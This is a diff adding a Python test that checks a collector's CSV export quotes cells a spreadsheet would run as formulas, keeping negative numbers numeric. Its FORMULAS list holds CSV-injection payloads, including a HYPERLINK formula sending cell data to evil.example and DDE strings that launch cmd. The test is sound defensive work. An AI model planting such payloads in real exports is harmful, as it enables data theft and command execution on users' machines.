@@ -17,9 +17,10 @@ from sqlalchemy import text
 from collector.policy import default_policies
 from collector.records import render
 from collector.records.service import Records, StoredRecord
-from collector.store.db import make_engine
+from collector.store import tickets as ticket_store
+from collector.store.db import make_engine, writing
 from collector.store.migrate import upgrade
-from tests.collector.records_data import DAY, SITE, ZONE, fill_site
+from tests.collector.records_data import DAY, SITE, ZONE, _ticket, fill_site, local, result, store_results
 from tests.conftest import missing
 
 NOW = datetime(2026, 11, 23, 8, 0, tzinfo=ZONE)
@@ -136,3 +137,42 @@ def test_renderings_of_a_tampered_record_say_it_failed_when_the_content_was_chan
     assert not tampered.verified
     assert "VERIFICATION FAILED" in render.html(tampered)
     assert b"VERIFICATION FAILED" in render.csv_bytes(tampered)
+
+
+# Cells a spreadsheet would run as a formula (OWASP "CSV injection"): each text cell that starts with
+# one of these is written with a leading single quote; numbers stay numbers.
+FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def test_csv_cells_that_would_run_as_formulas_are_quoted_and_numbers_stay_numbers_when_opened(
+        tmp_path: Path) -> None:
+    engine = make_engine(f"sqlite:///{tmp_path}/w.db")
+    upgrade(engine)
+    fill_site(engine)
+    evil_note, evil_inspector, evil_ticket, evil_signer, evil_summary, evil_standard = FORMULAS
+    store_results(engine, [
+        result("his-db-01", "nagios", "temp", 2, local(22, 9), standard=evil_standard, summary=evil_summary,
+               metrics=[{"name": "temperature", "value": -5.0, "unit": "", "warn": 30, "crit": 40},
+                        {"name": "offset", "value": -0.25, "unit": ""}]),
+        result("his-db-01", "clock", "ntp", 0, local(22, 9), standard="offset < 60 s",
+               metrics=[{"name": "offset_seconds", "value": -0.25, "unit": "", "warn": 60, "crit": 300}]),
+    ])
+    with writing(engine) as conn:
+        values = _ticket("his-db-01", opened=local(22, 9), response_due=local(22, 11), resolve_due=local(22, 17),
+                         summary=evil_ticket)
+        ticket_store.insert_ticket(conn, {k: v.astimezone(UTC) if isinstance(v, datetime) else v
+                                          for k, v in values.items()})
+    records = Records(engine, default_policies(), clock=lambda: NOW.astimezone(UTC))
+    rec = records.issue(site=SITE, kind="daily", period=DAY, language="en", inspector=evil_inspector, actor="li")
+    records.sign(rec.id, signer=evil_signer, role="customer", note=evil_note, actor="li")
+    data = render.csv_bytes(records.get(rec.id))
+    engine.dispose()
+
+    cells = [cell for line in csv.reader(io.StringIO(data[3:].decode("utf-8"))) for cell in line]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # what is left starting with a formula character is a plain number
+    assert all(c.lstrip("+-").replace(".", "", 1).isdigit() for c in dangerous), dangerous
+    for evil in FORMULAS:
+        assert "'" + evil in cells, evil  # kept whole, after the quote
+    assert "-5" in cells and "-0.25" in cells  # negative values stay numbers
